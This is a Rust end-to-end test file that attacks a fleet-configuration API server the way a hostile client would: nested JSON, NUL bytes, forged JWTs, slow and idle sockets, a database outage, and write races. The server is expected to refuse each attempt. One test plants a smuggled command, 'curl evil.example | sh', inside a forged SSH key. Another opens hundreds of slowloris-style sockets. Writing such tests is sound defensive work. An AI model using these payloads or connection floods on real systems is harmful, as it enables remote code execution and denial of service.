//! End-to-end: the server attacked as a hostile or broken client would, on both backends. Each test is one threat of
//! docs/SECURITY.md ("Hostile clients"): the server must answer clearly, change nothing, and keep serving others.

use std::time::{Duration, Instant};

use crate::common::agents::*;
use crate::common::*;
use fluxplane_agent::client::ControlPlane;
use fluxplane_agent_protocol::agent::{
    AGENT_AUDIENCE, AgentClaims, AgentInfo, ApplyOutcome, ConfigurationReport, Drift, ReportDisposition, Restoration,
    StatusReport,
};
use fluxplane_agent_protocol::flux::ComplianceState;
use fluxplane_api::auth::Role;
use fluxplane_api::on_both_backends;
use fluxplane_api::testing::Backend;
use reqwest::{Method, StatusCode};
use serde_json::{Value, json};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;

/// The server's URL of `path` with the query `pairs`, encoded.
fn with_query(api: &Api, path: &str, pairs: &[(&str, &str)]) -> String {
    let mut url = reqwest::Url::parse(&api.url(path)).unwrap();
    url.query_pairs_mut().extend_pairs(pairs);
    url.to_string()
}

fn chain(length: usize) -> Value {
    let kustomizations: serde_json::Map<String, Value> = (0..length)
        .map(|i| {
            let depends_on = if i == 0 {
                json!([])
            } else {
                json!([format!("k{}", i - 1)])
            };
            (format!("k{i}"), json!({"path": "./p", "dependsOn": depends_on}))
        })
        .collect();
    json!({
        "gitRepository": {"url": "https://example.com/r.git", "repositoryRef": {"branch": "main"}},
        "kustomizations": kustomizations
    })
}

on_both_backends!(
    deep_and_deeply_nested_input_is_refused_and_the_server_lives_on,
    deep_case
);
async fn deep_case(backend: Backend) {
    let Some(api) = Api::start(backend).await else { return };
    let cluster = cluster_path("s", "rg", "c1");
    api.put_cluster("s", "rg", "c1").await;
    // the chain that overflowed a worker's stack: now over the collection limit
    let long = api
        .put_config(&cluster, "chain", json!({"properties": chain(5000)}))
        .await;
    assert_eq!(
        (long.status, long.code()),
        (StatusCode::BAD_REQUEST, "InvalidParameter"),
        "{long:?}"
    );
    assert_eq!(long.body["error"]["target"], "properties.kustomizations");
    // the same through a Reader's plan of a policy assignment
    let reader = api.server.token("reader", &[(Role::Reader, "/subscriptions/s")]);
    let plan = api
        .call_as(
            &reader,
            Method::POST,
            &format!("/subscriptions/s/providers/Fluxplane.Fleet/policyAssignments/deep/plan?api-version={FLEET_API}"),
            Some(json!({"properties": {"selector": {}, "configurationName": "deep", "configurationTemplate": chain(5000)}})),
        )
        .await;
    assert_eq!(plan.status, StatusCode::BAD_REQUEST, "{plan:?}");
    // the longest chain allowed is checked and stored
    let allowed = api
        .put_config(&cluster, "chain", json!({"properties": chain(100)}))
        .await;
    assert_eq!(allowed.status, StatusCode::CREATED, "{allowed:?}");
    // JSON nested past any sensible depth
    let nested = format!("{{\"properties\": {}{}}}", "[".repeat(100_000), "]".repeat(100_000));
    let deep_json = api
        .raw(
            api.client
                .put(api.url(&with_version(&config_path(&cluster, "nested"), FLUX_API)))
                .bearer_auth(&api.token)
                .header("content-type", "application/json")
                .body(nested),
        )
        .await;
    assert_eq!(deep_json.code(), "InvalidRequestContent", "{deep_json:?}");
    // a $filter nested past its limit
    let filter = format!("{}name eq 'a'{}", "(".repeat(500), ")".repeat(500));
    let list = format!("{cluster}/providers/Microsoft.KubernetesConfiguration/fluxConfigurations");
    let nested_filter = api
        .raw(
            api.client
                .get(with_query(
                    &api,
                    &list,
                    &[("api-version", FLUX_API), ("$filter", filter.as_str())],
                ))
                .bearer_auth(&api.token),
        )
        .await;
    assert_eq!(nested_filter.status, StatusCode::BAD_REQUEST, "{nested_filter:?}");
    let alive = api.get(&with_version(&config_path(&cluster, "chain"), FLUX_API)).await;
    assert_eq!(alive.status, StatusCode::OK);
}

on_both_backends!(nul_characters_are_refused_by_field_and_agent_reports_land, nul_case);
async fn nul_case(backend: Backend) {
    let Some(api) = Api::start(backend).await else { return };
    let cluster = cluster_path("s", "rg", "c1");
    let cluster_url = with_version(&cluster, CLUSTER_API);
    for (body, target) in [
        (
            json!({"location": "westeurope", "tags": {"env": "a\u{0}b"}, "properties": {"agentPublicKeyCertificate": "a2V5"}}),
            "tags.env",
        ),
        (
            json!({"location": "west\u{0}europe", "properties": {"agentPublicKeyCertificate": "a2V5"}}),
            "location",
        ),
    ] {
        let refused = api.call(Method::PUT, &cluster_url, Some(body)).await;
        assert_eq!(
            (refused.status, refused.code(), refused.body["error"]["target"].as_str()),
            (StatusCode::BAD_REQUEST, "InvalidParameter", Some(target)),
            "{refused:?}"
        );
    }
    assert_eq!(
        api.get(&cluster_url).await.status,
        StatusCode::NOT_FOUND,
        "nothing was written"
    );
    api.put_cluster("s", "rg", "c1").await;
    let mut body = git_config_body();
    body["properties"]["kustomizations"]["infra"]["path"] = json!("./in\u{0}fra");
    let refused = api.put_config(&cluster, "cfg", body).await;
    assert_eq!(
        refused.body["error"]["target"], "properties.kustomizations.infra.path",
        "{refused:?}"
    );
    let filtered = api
        .get(&format!(
            "{cluster}/providers/Microsoft.KubernetesConfiguration/fluxConfigurations?api-version={FLUX_API}&$filter=name%20eq%20%27a%00%27"
        ))
        .await;
    assert_eq!(
        (filtered.status, filtered.body["error"]["target"].as_str()),
        (StatusCode::BAD_REQUEST, Some("$filter"))
    );

    // an agent whose error text holds a NUL still reports, and the text lands readable
    let dir = tempfile::tempdir().unwrap();
    let identity = registered(&api, "c2", dir.path()).await;
    let c2 = cluster_path("s", "rg", "c2");
    assert_eq!(
        api.put_config(&c2, "cfg", git_config_body()).await.status,
        StatusCode::CREATED
    );
    // sent by the agent's own client, as a failing agent would send it
    let report = StatusReport {
        agent: AgentInfo {
            agent_version: Some("0.1.0\u{0}".into()),
            ..Default::default()
        },
        extensions: Vec::new(),
        configurations: vec![ConfigurationReport {
            name: "cfg".into(),
            generation: 1,
            outcome: ApplyOutcome::Failed,
            compliance_state: ComplianceState::NonCompliant,
            message: Some("kustomize: bad byte \u{0} in manifest".into()),
            statuses: Vec::new(),
            source_synced_commit_id: None,
            source_updated_at: None,
            secrets_version: None,
            repository_public_key: None,
            restored: Vec::new(),
        }],
    };
    let agent = ControlPlane::new(identity).unwrap();
    let accepted = agent.report(&report).await.expect("the report lands");
    assert_eq!(accepted.results[0].result, ReportDisposition::Recorded, "{accepted:?}");
    let read = api.get(&with_version(&config_path(&c2, "cfg"), FLUX_API)).await;
    let message = read.body["properties"]["errorMessage"]
        .as_str()
        .unwrap_or_default()
        .to_owned();
    assert!(message.contains("bad byte \u{FFFD} in manifest"), "{read:?}");

    // a public key that is no key (users paste it into their Git host) is refused, and changes nothing
    let mut forged = report.clone();
    forged.configurations[0].repository_public_key = Some("ssh-ed25519 AAAA; curl evil.example | sh".into());
    let refused = agent.report(&forged).await.expect_err("a forged public key is refused");
    let text = refused.to_string();
    assert!(
        text.contains("400") && text.contains("configurations[0].repositoryPublicKey"),
        "{text}"
    );
    // so is a restoration whose object name holds control characters, which would reach the history's readers
    let mut forged = report.clone();
    forged.configurations[0].restored = vec![Restoration {
        kind: "Kustomization".into(),
        name: "apps\u{1b}[2J".into(),
        namespace: Some("flux-system".into()),
        drift: Drift::Deleted,
        noticed_at: "2026-12-06T00:00:00Z".into(),
    }];
    let refused = agent.report(&forged).await.expect_err("a control character is refused");
    assert!(
        refused.to_string().contains("configurations[0].restored[0].name"),
        "{refused}"
    );
    let unchanged = api.get(&with_version(&config_path(&c2, "cfg"), FLUX_API)).await;
    assert_eq!(unchanged.body["properties"], read.body["properties"]);
}

on_both_backends!(sixty_four_unconditional_writers_each_land_as_a_generation, writers_case);
async fn writers_case(backend: Backend) {
    let Some(api) = Api::start(backend).await else { return };
    let cluster = cluster_path("s", "rg", "c1");
    api.put_cluster("s", "rg", "c1").await;
    let first = api.put_config(&cluster, "cfg", git_config_body()).await;
    assert_eq!(first.status, StatusCode::CREATED);
    let url = api.url(&with_version(&config_path(&cluster, "cfg"), FLUX_API));
    let writers: Vec<_> = (0..64)
        .map(|i| {
            let (client, url, token) = (api.client.clone(), url.clone(), api.token.clone());
            let mut body = git_config_body();
            body["properties"]["kustomizations"]["infra"]["path"] = json!(format!("./infra-{i}"));
            tokio::spawn(async move {
                client
                    .put(url)
                    .bearer_auth(token)
                    .json(&body)
                    .send()
                    .await
                    .unwrap()
                    .status()
            })
        })
        .collect();
    for writer in writers {
        assert_eq!(writer.await.unwrap(), StatusCode::OK, "every unconditional write lands");
    }
    // the status history records each generation the configuration passed through
    let history = api
        .get(&format!(
            "{}/history?api-version={FLEET_API}&$top=500",
            config_path(&cluster, "cfg")
        ))
        .await;
    assert_eq!(history.status, StatusCode::OK, "{history:?}");
    let mut generations: Vec<i64> = history.body["value"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|e| e["kind"] == "status")
        .filter_map(|e| e["generation"].as_i64())
        .collect();
    generations.sort_unstable();
    generations.dedup();
    assert_eq!(
        generations,
        (1..=65).collect::<Vec<_>>(),
        "65 writes, each its own generation"
    );
}

/// A user token with the given claims, signed with the server's key.
fn user_token(api: &Api, claims: &Value) -> String {
    let secret = fluxplane_api::auth::read_secret_file(&api.server.state.config.jwt_secret_path()).unwrap();
    jsonwebtoken::encode(
        &jsonwebtoken::Header::new(jsonwebtoken::Algorithm::HS256),
        claims,
        &jsonwebtoken::EncodingKey::from_secret(&secret),
    )
    .unwrap()
}

on_both_backends!(
    tokens_with_malformed_scopes_or_far_future_times_are_refused,
    tokens_case
);
async fn tokens_case(backend: Backend) {
    let Some(api) = Api::start(backend).await else { return };
    api.put_cluster("s", "rg", "c1").await;
    let cluster = with_version(&cluster_path("s", "rg", "c1"), CLUSTER_API);
    let now = chrono::Utc::now().timestamp();
    for scope in ["", "/subscriptions", "/subscriptions/s/junk", "subscriptions/s", "//"] {
        let token = user_token(
            &api,
            &json!({"sub": "mallory", "iss": "fluxplane", "aud": "fluxplane", "iat": now, "nbf": now, "exp": now + 600,
                    "roles": [{"role": "Owner", "scope": scope}]}),
        );
        let answer = api.call_as(&token, Method::GET, &cluster, None).await;
        assert_eq!(
            (answer.status, answer.code()),
            (StatusCode::UNAUTHORIZED, "AuthenticationFailed"),
            "scope {scope:?}: {answer:?}"
        );
    }

    let dir = tempfile::tempdir().unwrap();
    let identity = registered(&api, "c2", dir.path()).await;
    let key = jsonwebtoken::EncodingKey::from_ed_pem(identity.private_key.as_bytes()).unwrap();
    let ten_years = 10 * 365 * 86_400;
    let sign = |iat: i64, exp: i64| {
        let claims = AgentClaims {
            sub: identity.cluster_id.clone(),
            aud: AGENT_AUDIENCE.to_owned(),
            iat,
            exp,
        };
        jsonwebtoken::encode(
            &jsonwebtoken::Header::new(jsonwebtoken::Algorithm::EdDSA),
            &claims,
            &key,
        )
        .unwrap()
    };
    for (iat, exp, what) in [
        (now + ten_years, now + ten_years + 60, "issued in ten years"),
        (now, now + ten_years, "valid for ten years"),
        (now + 600, now + 660, "issued ten minutes ahead"),
    ] {
        let answer = api
            .raw(
                api.client
                    .get(api.url("/agent/v1/desired-state"))
                    .bearer_auth(sign(iat, exp)),
            )
            .await;
        assert_eq!(answer.status, StatusCode::UNAUTHORIZED, "{what}: {answer:?}");
    }
    let fair = api
        .raw(
            api.client
                .get(api.url("/agent/v1/desired-state"))
                .bearer_auth(sign(now, now + 120)),
        )
        .await;
    assert_eq!(fair.status, StatusCode::OK, "{fair:?}");
}

on_both_backends!(
    names_outside_the_callers_scope_answer_as_names_that_do_not_exist,
    existence_case
);
async fn existence_case(backend: Backend) {
    let Some(api) = Api::start(backend).await else { return };
    api.put_cluster("s", "rg-a", "c1").await;
    let group = api
        .call(
            Method::PUT,
            &format!("/subscriptions/s/providers/Fluxplane.Fleet/clusterGroups/secret-group?api-version={FLEET_API}"),
            Some(json!({"properties": {"selector": {"matchLabels": {"env": "prod"}}}})),
        )
        .await;
    assert!(group.status.is_success(), "{group:?}");
    let assignment = api
        .call(
            Method::PUT,
            &format!("/subscriptions/s/providers/Fluxplane.Fleet/policyAssignments/secret-plan?api-version={FLEET_API}"),
            Some(json!({"properties": {"selector": {"matchLabels": {"env": "none"}}, "configurationName": "base",
                                       "configurationTemplate": {"gitRepository": {"url": "https://example.com/r",
                                                                                    "repositoryRef": {"branch": "main"}}}}})),
        )
        .await;
    assert!(assignment.status.is_success(), "{assignment:?}");
    let reader = api
        .server
        .token("rg-reader", &[(Role::Reader, "/subscriptions/s/resourceGroups/rg-a")]);
    for endpoint in ["complianceSummary", "clusterCompliance"] {
        for (parameter, existing, missing) in [
            ("clusterGroup", "secret-group", "no-such-group"),
            ("policyAssignment", "secret-plan", "no-such-plan"),
        ] {
            let ask = |name: &str| {
                api.raw(
                    api.client
                        .get(with_query(
                            &api,
                            &format!("/subscriptions/s/providers/Fluxplane.Fleet/{endpoint}"),
                            &[("api-version", FLEET_API), (parameter, name)],
                        ))
                        .bearer_auth(&reader),
                )
            };
            let (hidden, absent) = (ask(existing).await, ask(missing).await);
            assert_eq!(
                hidden.status, absent.status,
                "{endpoint} {parameter}: {hidden:?} vs {absent:?}"
            );
            assert_eq!(hidden.code(), absent.code());
            assert_eq!(
                hidden.body["error"]["message"]
                    .as_str()
                    .unwrap()
                    .replace(existing, "NAME"),
                absent.body["error"]["message"]
                    .as_str()
                    .unwrap()
                    .replace(missing, "NAME"),
            );
        }
    }
    // the owner, who may read them, is answered
    let owned = api
        .get(&format!(
            "/subscriptions/s/providers/Fluxplane.Fleet/complianceSummary?api-version={FLEET_API}&clusterGroup=secret-group"
        ))
        .await;
    assert_eq!(owned.status, StatusCode::OK, "{owned:?}");
}

on_both_backends!(inputs_that_used_to_pass_unchecked_are_refused, gaps_case);
async fn gaps_case(backend: Backend) {
    let Some(api) = Api::start(backend).await else { return };
    let cluster = cluster_path("s", "rg", "c1");
    api.put_cluster("s", "rg", "c1").await;
    let group_url = format!("/subscriptions/s/providers/Fluxplane.Fleet/clusterGroups/g?api-version={FLEET_API}");
    let empty_array = api
        .call(Method::PUT, &group_url, Some(json!({"properties": {"selector": []}})))
        .await;
    assert_eq!(
        (empty_array.status, empty_array.body["error"]["target"].as_str()),
        (StatusCode::BAD_REQUEST, Some("properties.selector")),
        "{empty_array:?}"
    );
    assert_eq!(api.get(&group_url).await.status, StatusCode::NOT_FOUND);
    let summary = |pair: (&'static str, &'static str)| {
        let url = with_query(
            &api,
            "/subscriptions/s/providers/Fluxplane.Fleet/complianceSummary",
            &[("api-version", FLEET_API), pair],
        );
        api.raw(api.client.get(url).bearer_auth(&api.token))
    };
    let not_in_nothing = summary(("tagSelector", "env notin ()")).await;
    assert_eq!(not_in_nothing.status, StatusCode::BAD_REQUEST, "{not_in_nothing:?}");
    let far_future = summary(("asOf", "9999-01-01T00:00:00Z")).await;
    assert_eq!(
        (far_future.status, far_future.body["error"]["target"].as_str()),
        (StatusCode::BAD_REQUEST, Some("asOf")),
        "{far_future:?}"
    );
    let forged = api
        .get(&format!(
            "{cluster}/providers/Microsoft.KubernetesConfiguration/fluxConfigurations?api-version={FLUX_API}&$skipToken=czEvcmcvenp6"
        ))
        .await;
    assert_eq!(
        (forged.status, forged.body["error"]["target"].as_str()),
        (StatusCode::BAD_REQUEST, Some("$skipToken")),
        "{forged:?}"
    );
    let mut with_password = git_config_body();
    with_password["properties"]["gitRepository"]["url"] = json!("https://alice:hunter2@example.com/r.git");
    let refused = api.put_config(&cluster, "cfg", with_password).await;
    assert_eq!(
        refused.body["error"]["target"], "properties.gitRepository.url",
        "{refused:?}"
    );
    assert!(
        !refused.body.to_string().contains("hunter2"),
        "the password is never echoed"
    );
    assert!(refused.body.to_string().contains("httpsUser"));
    assert_eq!(
        api.get(&with_version(&config_path(&cluster, "cfg"), FLUX_API))
            .await
            .status,
        StatusCode::NOT_FOUND
    );
}

on_both_backends!(idle_and_slow_sockets_lock_no_one_out, sockets_case);
async fn sockets_case(backend: Backend) {
    let Some(server) = fluxplane_api::testing::TestServer::start_with(backend, |c| {
        c.max_connections = 200;
        c.header_read_timeout = Duration::from_secs(2);
        c.request_timeout = Duration::from_secs(3);
    })
    .await
    else {
        return;
    };
    let api = Api::serving(server);
    let (_repository, _git, url) = served_repository().await;
    let dir = tempfile::tempdir().unwrap();
    let agent = RunningAgent::start(registered(&api, "c1", dir.path()).await).await;
    let address = api.server.address;

    // twice the cap of sockets that send nothing, and a few that send a request head a byte at a time
    let mut silent = Vec::new();
    for _ in 0..400 {
        silent.push(TcpStream::connect(address).await.unwrap());
    }
    let slow: Vec<_> = (0..20)
        .map(|_| {
            tokio::spawn(async move {
                let mut stream = TcpStream::connect(address).await.unwrap();
                for byte in b"GET /healthz HTTP/1.1\r\nHost: x\r\n".iter().cycle().take(200) {
                    if stream.write_all(&[*byte]).await.is_err() {
                        return true;
                    }
                    tokio::time::sleep(Duration::from_millis(100)).await;
                }
                false
            })
        })
        .collect();
    // a slow body: the head at once, the body never
    let mut slow_body = TcpStream::connect(address).await.unwrap();
    let put = format!(
        "PUT {} HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {}\r\nContent-Type: application/json\r\nContent-Length: 100\r\n\r\n{{",
        with_version(&cluster_path("s", "rg", "slow"), CLUSTER_API),
        api.token
    );
    slow_body.write_all(put.as_bytes()).await.unwrap();

    // everyone else is still served within a second
    let started = Instant::now();
    let answer = api
        .get(&with_version(&cluster_path("s", "rg", "c1"), CLUSTER_API))
        .await;
    assert_eq!(answer.status, StatusCode::OK);
    assert!(
        started.elapsed() < Duration::from_secs(1),
        "answered in {:?}",
        started.elapsed()
    );
    // and the agent, long-polling through it all, still gets a write and reports on it
    let cluster = cluster_path("s", "rg", "c1");
    let created = api.put_config(&cluster, "demo", config_body(&url)).await;
    assert_eq!(created.status, StatusCode::CREATED);
    until(
        &api,
        &with_version(&config_path(&cluster, "demo"), FLUX_API),
        "Compliant",
        |p| p["complianceState"] == "Compliant",
    )
    .await;

    // the slow body is cut off by the request timeout with a 408
    let mut answer = String::new();
    tokio::time::timeout(Duration::from_secs(10), slow_body.read_to_string(&mut answer))
        .await
        .expect("the slow upload is answered")
        .ok();
    assert!(answer.starts_with("HTTP/1.1 408"), "{answer}");
    // the slow heads are closed by the header read timeout
    for writer in slow {
        assert!(
            tokio::time::timeout(Duration::from_secs(30), writer)
                .await
                .unwrap()
                .unwrap(),
            "a request head sent a byte at a time is cut off"
        );
    }
    // silent sockets were closed, by eviction or by the header read timeout
    let mut closed = 0;
    for mut socket in silent {
        let mut byte = [0u8; 1];
        if let Ok(Ok(0) | Err(_)) = tokio::time::timeout(Duration::from_secs(5), socket.read(&mut byte)).await {
            closed += 1;
        }
    }
    assert_eq!(closed, 400, "every silent socket is closed");
    agent.stop().await;
}

/// A TCP relay in front of PostgreSQL: cutting it is the database going away as a network outage would have it.
struct Relay {
    address: std::net::SocketAddr,
    upstream: String,
    tasks: std::sync::Arc<std::sync::Mutex<Vec<tokio::task::JoinHandle<()>>>>,
}

impl Relay {
    async fn start(upstream: String) -> Self {
        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
        let relay = Self {
            address: listener.local_addr().unwrap(),
            upstream,
            tasks: Default::default(),
        };
        relay.serve(listener);
        relay
    }

    fn serve(&self, listener: tokio::net::TcpListener) {
        let (upstream, tasks) = (self.upstream.clone(), self.tasks.clone());
        let accepting = tokio::spawn(async move {
            while let Ok((mut inbound, _)) = listener.accept().await {
                let upstream = upstream.clone();
                let relayed = tokio::spawn(async move {
                    if let Ok(mut outbound) = TcpStream::connect(&upstream).await {
                        let _ = tokio::io::copy_bidirectional(&mut inbound, &mut outbound).await;
                    }
                });
                tasks.lock().unwrap().push(relayed);
            }
        });
        self.tasks.lock().unwrap().push(accepting);
    }

    /// Closes the listener and every relayed connection.
    fn cut(&self) {
        for task in self.tasks.lock().unwrap().drain(..) {
            task.abort();
        }
    }

    /// Listens again on the same address.
    async fn resume(&self) {
        let listener = loop {
            match tokio::net::TcpListener::bind(self.address).await {
                Ok(listener) => break listener,
                Err(_) => tokio::time::sleep(Duration::from_millis(100)).await,
            }
        };
        self.serve(listener);
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_database_outage_is_answered_503_at_once_and_the_server_recovers() {
    use fluxplane_api::testing::{TestDatabase, test_config};
    let Some(database) = TestDatabase::create(Backend::Postgres).await else {
        return;
    };
    let direct = reqwest::Url::parse(&database.url).unwrap();
    let upstream = format!("{}:{}", direct.host_str().unwrap(), direct.port().unwrap_or(5432));
    let relay = Relay::start(upstream.clone()).await;
    let url = database.url.replacen(&upstream, &relay.address.to_string(), 1);
    let config = test_config(database.dir.path(), &url);
    fluxplane_api::keys::prepare(&config, true).unwrap();
    let store = fluxplane_api::store::connect(&url).await.unwrap();
    let state = fluxplane_api::state::AppState::new(config, store).unwrap();
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let base = format!("http://{}", listener.local_addr().unwrap());
    let (stop, stopped) = tokio::sync::oneshot::channel::<()>();
    let server = tokio::spawn(fluxplane_api::server::serve(listener, state.clone(), async {
        let _ = stopped.await;
    }));
    let secret = fluxplane_api::auth::read_secret_file(&state.config.jwt_secret_path()).unwrap();
    let owner = fluxplane_api::auth::RoleAssignment::parse(Role::Owner, "/").unwrap();
    let token = fluxplane_api::auth::mint(
        &secret,
        "fluxplane",
        "fluxplane",
        "t",
        vec![owner],
        chrono::Duration::hours(1),
        state.config.tenant(),
    )
    .unwrap();
    let client = http_client();
    let cluster = format!("{base}{}", with_version(&cluster_path("s", "rg", "c1"), CLUSTER_API));
    let put = client
        .put(&cluster)
        .bearer_auth(&token)
        .json(&cluster_body())
        .send()
        .await
        .unwrap();
    assert_eq!(put.status(), StatusCode::CREATED);

    relay.cut();
    // the first request meets the outage (at worst after the pool's acquire timeout) and is answered 503
    let first = client.get(&cluster).bearer_auth(&token).send().await.unwrap();
    assert_eq!(first.status(), StatusCode::SERVICE_UNAVAILABLE);
    // from then on every request is answered at once, with Retry-After
    for _ in 0..5 {
        let started = Instant::now();
        let answer = client.get(&cluster).bearer_auth(&token).send().await.unwrap();
        assert!(
            started.elapsed() < Duration::from_secs(1),
            "answered in {:?}",
            started.elapsed()
        );
        assert_eq!(answer.status(), StatusCode::SERVICE_UNAVAILABLE);
        assert!(answer.headers().contains_key("retry-after"));
        let body: Value = answer.json().await.unwrap();
        assert_eq!(body["error"]["code"], "ServiceUnavailable", "{body}");
    }
    let ready = client.get(format!("{base}/readyz")).send().await.unwrap();
    assert_eq!(ready.status(), StatusCode::SERVICE_UNAVAILABLE);
    let why: Value = ready.json().await.unwrap();
    assert!(
        why["error"]["message"].as_str().unwrap().contains("unreachable since"),
        "{why}"
    );

    relay.resume().await;
    let deadline = Instant::now() + Duration::from_secs(20);
    loop {
        let answer = client.get(&cluster).bearer_auth(&token).send().await.unwrap();
        if answer.status() == StatusCode::OK {
            break;
        }
        assert!(
            Instant::now() < deadline,
            "the server did not recover: {}",
            answer.status()
        );
        tokio::time::sleep(Duration::from_millis(200)).await;
    }
    assert_eq!(
        client.get(format!("{base}/readyz")).send().await.unwrap().status(),
        StatusCode::OK
    );
    let _ = stop.send(());
    server.await.unwrap().unwrap();
    relay.cut();
}

on_both_backends!(a_connection_beyond_the_cap_with_every_one_busy_is_told_so, busy_case);
async fn busy_case(backend: Backend) {
    let Some(server) = fluxplane_api::testing::TestServer::start_with(backend, |c| c.max_connections = 3).await else {
        return;
    };
    let token = server.owner_token();
    let address = server.address;
    // three live streams hold every connection inside a request
    let mut streams = hold_connections(address, &token, 3).await;
    let refused = reqwest::get(format!("http://{address}/healthz")).await.unwrap();
    assert_eq!(refused.status(), StatusCode::SERVICE_UNAVAILABLE);
    assert_eq!(refused.headers()["retry-after"], "1");
    let body: Value = refused.json().await.unwrap();
    assert_eq!(body["error"]["code"], "ServerBusy", "{body}");
    // once a stream ends, its place is free again
    drop(streams.pop());
    let deadline = Instant::now() + Duration::from_secs(5);
    loop {
        let answer = reqwest::get(format!("http://{address}/healthz")).await.unwrap();
        if answer.status() == StatusCode::OK {
            break;
        }
        assert!(Instant::now() < deadline, "the freed place was not reused");
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    drop(server);
}

fn race_assignment(name: &str, label: &str) -> Value {
    json!({"properties": {
        "selector": {"matchLabels": {"race": label}}, "configurationName": name, "onUnmatch": "Delete",
        "configurationTemplate": {"gitRepository": {"url": "https://example.com/r.git", "repositoryRef": {"branch": "main"}}}
    }})
}

/// Sends the requests at once and answers their statuses.
async fn at_once(api: &Api, requests: Vec<(Method, String, Option<Value>)>) -> Vec<StatusCode> {
    let sent: Vec<_> = requests
        .into_iter()
        .map(|(method, path, body)| {
            let mut request = api
                .client
                .request(method.clone(), api.url(&path))
                .bearer_auth(&api.token);
            if let Some(body) = body {
                request = request.json(&body);
            }
            tokio::spawn(async move { (method, path, request.send().await.unwrap().status()) })
        })
        .collect();
    let mut statuses = Vec::new();
    for request in sent {
        let (method, path, status) = request.await.unwrap();
        assert!(!status.is_server_error(), "{method} {path}: {status}");
        statuses.push(status);
    }
    statuses
}

// Found by the fuzzing run: on SQLite a transaction that read before writing failed at once with "database is
// locked" when another had written meanwhile; on PostgreSQL a cluster DELETE and a cluster PUT that released
// managed configurations locked them in opposite orders and deadlocked.
on_both_backends!(concurrent_fleet_writes_neither_fail_nor_deadlock, fleet_race_case);
async fn fleet_race_case(backend: Backend) {
    let Some(api) = Api::start(backend).await else { return };
    for name in ["race-a", "race-b", "race-c", "race-d"] {
        let path =
            format!("/subscriptions/s/providers/Fluxplane.Fleet/policyAssignments/{name}?api-version={FLEET_API}");
        let put = api.call(Method::PUT, &path, Some(race_assignment(name, "yes"))).await;
        assert!(put.status.is_success(), "{put:?}");
    }
    let assignment = format!(
        "/subscriptions/s/resourceGroups/rg/providers/Fluxplane.Fleet/policyAssignments/race?api-version={FLEET_API}"
    );
    api.put_cluster("s", "rg", "steady").await;
    for round in 0..25 {
        let cluster = with_version(&cluster_path("s", "rg", &format!("race-{round}")), CLUSTER_API);
        let mut joining = cluster_body();
        joining["tags"] = json!({"race": "yes"});
        assert!(api.call(Method::PUT, &cluster, Some(joining)).await.status.is_success());
        let mut leaving = cluster_body();
        leaving["tags"] = json!({"race": "no"});
        let mut retagged = cluster_body();
        retagged["tags"] = json!({"race": "yes", "round": round.to_string()});
        at_once(
            &api,
            vec![
                (Method::PUT, cluster.clone(), Some(leaving)),
                (Method::DELETE, cluster, None),
                (Method::PUT, assignment.clone(), Some(race_assignment("race", "yes"))),
                (
                    Method::PUT,
                    with_version(&cluster_path("s", "rg", "steady"), CLUSTER_API),
                    Some(retagged),
                ),
                (Method::DELETE, assignment.clone(), None),
            ],
        )
        .await;
    }
}

// Found by the fuzzing run: an agent acknowledging its secrets deleted them before locking their configuration,
// a PUT with new secrets locked the configuration before deleting the old ones, and PostgreSQL found a deadlock.
on_both_backends!(secret_writes_racing_their_acknowledgement_never_deadlock, ack_race_case);
async fn ack_race_case(backend: Backend) {
    let Some(api) = Api::start(backend).await else { return };
    let dir = tempfile::tempdir().unwrap();
    let identity = registered(&api, "c1", dir.path()).await;
    let cluster = cluster_path("s", "rg", "c1");
    let path = with_version(&config_path(&cluster, "cfg"), FLUX_API);
    let token = identity.token().unwrap().value;
    let mut body = git_config_body();
    body["properties"]["configurationProtectedSettings"] = json!({"httpsKey": "c2VjcmV0"});
    assert_eq!(
        api.put_config(&cluster, "cfg", body.clone()).await.status,
        StatusCode::CREATED
    );
    for round in 0..100 {
        let current = api.get(&path).await;
        let generation = current.body["properties"]["observedGeneration"].as_i64().unwrap_or(1);
        let report = json!({"configurations": [{
            "name": "cfg", "generation": generation, "outcome": "Applied", "complianceState": "Compliant",
            "statuses": [], "secretsVersion": round + 1
        }]});
        let ack = {
            let request = api
                .client
                .post(api.url("/agent/v1/status"))
                .bearer_auth(&token)
                .json(&report);
            tokio::spawn(async move { request.send().await.unwrap().status() })
        };
        let put = {
            let request = api.client.put(api.url(&path)).bearer_auth(&api.token).json(&body);
            tokio::spawn(async move { request.send().await.unwrap().status() })
        };
        let (ack, put) = (ack.await.unwrap(), put.await.unwrap());
        assert!(
            !ack.is_server_error() && !put.is_server_error(),
            "round {round}: ack {ack}, put {put}"
        );
    }
}
